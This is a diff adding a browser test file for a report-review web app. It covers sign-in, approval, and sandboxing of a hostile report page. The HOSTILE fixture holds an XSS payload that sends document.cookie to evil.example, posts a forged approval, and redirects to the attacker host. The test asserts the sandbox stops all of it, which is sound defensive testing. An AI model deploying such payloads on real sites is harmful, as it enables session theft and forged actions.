@@ -1,0 +1,130 @@
+"""Reports in a real Chromium: signing in, approving by the button, and a hostile report that reaches nothing."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import pytest
+
+from mlprod_nb.store import evidence, report_index
+from tests.reports.test_reports_browser import browser as browser
+from tests.reports.test_reports_browser import violations
+from tests.serving.test_serving_reports import PAGE, PLACE, given, given_digest, token_of
+from tests.serving.workshop import Workshop, on_a_socket
+from tests.store.test_store_reports import written
+
+pytestmark = pytest.mark.browser
+
+HOSTILE = """<!doctype html><html><body><h1>three columns drifted.</h1>
+<script>document.documentElement.dataset.ran = "yes"; parent.document.title = "taken";
+fetch("/reports/approve", {method: "POST", credentials: "include", body: "digest=DIGEST&reason=x"});
+new Image().src = "https://evil.example/" + document.cookie;</script>
+<img src="x" onerror="document.documentElement.dataset.ran = 'yes'">
+<form id="trap" action="/reports/approve" method="post" target="_top">
+<input name="digest" value="DIGEST"><input name="reason" value="x"><button id="send">Send</button></form>
+<a id="away" href="https://evil.example/" target="_top">away</a>
+<a id="home" href="/reports/approve" target="_top">home</a>
+<iframe src="/reports/"></iframe><object data="/reports/"></object><embed src="/reports/">
+<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">
+</body></html>"""
+
+
+@pytest.fixture
+def reports(shop: Workshop) -> Workshop:
+    """A workspace with one report that can be approved, and whose page is hostile."""
+    record = written(shop.layout.root, name=f"reports/{PLACE}")
+    folder = shop.layout.root / record.path
+    (folder / "index.html").write_text(HOSTILE.replace("DIGEST", record.digest), encoding="utf-8")
+    sealed = report_index.ReportRecord(**{**record.__dict__, "files": evidence.seal(folder)})
+    with shop.store() as store, store.write() as connection:
+        report_index.add(connection, sealed)
+    return shop
+
+
+@contextmanager
+def signed_in(browser: Any, url: str, token: str, **options: Any) -> Iterator[tuple[Any, list[Any]]]:
+    """Yield a tab that signed in and shows the report, and every request that it began."""
+    context = browser.new_context(**options)
+    tab = context.new_page()
+    asked: list[Any] = []
+    tab.on("request", lambda request: asked.append(request))  # noqa: PLW0108 (playwright marks what it is given)
+    tab.goto(f"{url}{PAGE}")
+    tab.get_by_label("Token").fill(token)
+    tab.get_by_role("button", name="Sign in").click()
+    tab.wait_for_url(f"{url}{PAGE}")
+    yield tab, asked
+    context.close()
+
+
+def test_a_reviewer_signs_in_reads_and_approves(browser: Any, reports: Workshop) -> None:
+    token = token_of(reports, "bob")
+    with on_a_socket(reports) as (url, _), signed_in(browser, url, token) as (tab, _):
+        inside = tab.frame_locator("iframe")
+        assert inside.get_by_role("heading").inner_text() == "three columns drifted."
+        tab.get_by_label("Why you approve").fill("drift is seasonal")
+        tab.get_by_role("button", name="Approve as bob").click()
+        tab.get_by_text("You approved it.").wait_for()
+        tab.get_by_role("link", name="All reports").click()
+        tab.wait_for_url(f"{url}/reports/")
+        assert tab.get_by_text("1 approval", exact=True).is_visible()
+        tab.get_by_label("Show only what contains").fill("nothing like it")
+        assert tab.get_by_text("0 of 1 shown").is_visible()
+        tab.get_by_label("Show only what contains").fill("")
+        tab.get_by_role("link", name=re.compile("three columns")).last.click()
+        tab.wait_for_url(f"{url}{PAGE}")
+        tab.get_by_role("button", name="Sign out").click()
+        tab.wait_for_url(f"{url}/reports/login")
+    [approval] = given(reports)
+    assert (approval.actor, approval.reason) == ("bob", "drift is seasonal")
+
+
+def test_a_hostile_report_runs_nothing_sends_nothing_and_reaches_no_form(browser: Any, reports: Workshop) -> None:
+    token = token_of(reports, "bob")
+    with on_a_socket(reports) as (url, _), signed_in(browser, url, token) as (tab, asked):
+        tab.wait_for_load_state("networkidle")
+        [_, frame, *_] = tab.frames
+        assert frame.evaluate("document.documentElement.dataset.ran") is None
+        assert frame.evaluate("self.origin") == "null"
+        with pytest.raises(Exception, match="sandboxed"):
+            frame.evaluate("document.cookie")
+        title = tab.title()
+        frame.evaluate("document.getElementById('trap').submit()")
+        for button in ("#send", "#away", "#home"):
+            frame.locator(button).click()
+        tab.wait_for_load_state("networkidle")
+        assert (tab.url, tab.title()) == (f"{url}{PAGE}", title)
+        # What the policy stops is told of, and never sent.
+        sent = [request for request in asked if request.failure != "csp" and not request.url.startswith("data:")]
+        assert [request.url for request in sent if not request.url.startswith(f"{url}/reports/")] == []
+        assert [request.url for request in sent if request.method == "POST"] == [f"{url}/reports/login"]
+        # Opened by itself, it is in its sandbox too.
+        tab.goto(f"{url}{PAGE}?page")
+        assert tab.evaluate("document.documentElement.dataset.ran") is None
+        assert tab.evaluate("self.origin") == "null"
+    assert not given(reports)
+    assert given_digest(reports)
+
+
+@pytest.mark.parametrize("width", [360, 1200])
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_pages_around_fit_the_screen_and_break_no_rule_for_screen_readers(
+    browser: Any, shop: Workshop, width: int, scheme: str
+) -> None:
+    record = written(shop.layout.root, name=f"reports/{PLACE}")
+    with shop.store() as store, store.write() as connection:
+        report_index.add(connection, record)
+    size = {"width": width, "height": 800}
+    token = token_of(shop, "bob")
+    with on_a_socket(shop) as (url, _):
+        tab = browser.new_page(viewport=size, color_scheme=scheme)
+        tab.goto(f"{url}/reports/login")
+        assert tab.evaluate("document.documentElement.scrollWidth") <= width
+        assert violations(tab) == []
+        tab.close()
+        with signed_in(browser, url, token, viewport=size, color_scheme=scheme) as (tab, _):
+            assert tab.evaluate("document.documentElement.scrollWidth") <= width
+            [_, inside] = tab.frames
+            assert inside.evaluate("innerHeight") > 300
